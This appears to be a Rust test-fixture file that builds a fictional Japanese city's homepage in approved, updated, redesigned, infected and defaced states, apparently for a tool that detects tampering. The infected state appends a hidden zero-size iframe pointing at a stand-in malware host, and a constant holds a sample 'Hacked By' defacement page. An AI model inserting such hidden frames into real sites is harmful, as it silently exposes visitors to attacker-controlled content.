//! The pages of a made-up city: as they should be, updated, and defaced.

use std::fmt::Write as _;

/// The news on the page when nothing has happened yet.
pub(crate) const NEWS: [&str; 4] = [
    "粗大ごみの収集日が変わります",
    "市民図書館の開館時間のお知らせ",
    "子育て支援センターの講座の参加者を募集しています",
    "水道工事に伴う断水のお知らせ(中央町)",
];

/// The front page of a city with these news and something more at the end of its body.
pub(crate) fn city(news: &[&str], more: &str) -> String {
    let mut items = String::new();
    for (number, item) in news.iter().enumerate() {
        let _ = writeln!(items, "<li><a href=\"/news/{number}.html\">{item}</a></li>");
    }
    format!(
        "<!DOCTYPE html>\n<html lang=\"ja\"><head><meta charset=\"utf-8\"><title>例示市公式ホームページ</title>\n\
         <link rel=\"stylesheet\" href=\"/css/site.css\"><script src=\"/js/menu.js\"></script></head>\n<body>\n\
         <header><h1>例示市</h1><nav><ul><li><a href=\"/kurashi/\">くらし・手続き</a></li>\
         <li><a href=\"/bousai/\">防災・安全</a></li><li><a href=\"/shisei/\">市政情報</a></li></ul></nav></header>\n\
         <main><h2>新着情報</h2><ul id=\"news\">\n{items}</ul>\n\
         <h2>市長あいさつ</h2><p>例示市は山と海に囲まれた人口三万人のまちです。市民の皆様とともに、安心して暮らせる\
         まちづくりを進めてまいります。市役所の窓口は平日の午前八時三十分から午後五時十五分まで開いています。</p>\n\
         <h2>市役所へのアクセス</h2><p>例示駅から徒歩十分です。駐車場は百台分あります。</p></main>\n\
         <footer><p>例示市役所 〒000-0000 例示県例示市中央町一丁目一番一号</p></footer>\n{more}\n</body></html>\n"
    )
}

/// The page as it was approved.
pub(crate) fn ordinary() -> String {
    city(&NEWS, "")
}

/// An ordinary day: two more news items.
pub(crate) fn updated() -> String {
    let mut news = vec!["市議会定例会の日程が決まりました", "インフルエンザ予防接種の費用を助成します"];
    news.extend(NEWS);
    city(&news, "")
}

/// A new form on the city's own site: nobody's attack, but it acts on visitors.
pub(crate) fn renewed(news: &[&str]) -> String {
    city(news, "<form action=\"/search\" method=\"get\"><input name=\"q\"><button>検索</button></form>")
}

/// What an attacker leaves: a frame that nobody sees, from another host.
pub(crate) const FRAME: &str =
    "<iframe src=\"http://malware.example/in.php?id=7\" width=\"0\" height=\"0\" style=\"display:none\"></iframe>";

/// The page with a hidden frame.
pub(crate) fn infected() -> String {
    city(&NEWS, FRAME)
}

/// A page that was replaced as a whole.
pub(crate) const DEFACED: &str = "<html><head><title>Hacked By Example Crew</title></head><body bgcolor=black text=red>\
    <center><h1>HACKED BY EXAMPLE CREW</h1><p>Your security is a joke. We own this server. Greetz to all defacers.</p>\
    <marquee>Owned!</marquee></center></body></html>";
